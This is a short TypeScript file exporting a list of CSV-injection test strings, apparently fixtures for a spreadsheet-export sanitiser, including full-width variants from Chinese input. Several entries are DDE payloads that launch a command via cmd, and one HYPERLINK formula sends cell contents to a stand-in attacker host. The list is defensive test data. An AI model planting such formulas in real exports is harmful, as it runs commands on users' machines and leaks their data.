/** The OWASP CSV-injection payloads, and the forms Chinese input methods and pasted text add. */
export const HOSTILE = [
  '=1+2',
  '=cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://attacker.example/?leak="&A1&A2,"Click")',
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '+1+2',
  '-2+3+cmd|\' /C calc\'!A0',
  '=10+20+cmd|\' /C calc\'!A0',
  '\t=1+2',
  '\r=1+2',
  '\n=1+2',
  '＝1+2',
  '＋1+2',
  '－1+2',
  '＠SUM(1+1)',
  '-',
  '+86 138 1234 5678',
];
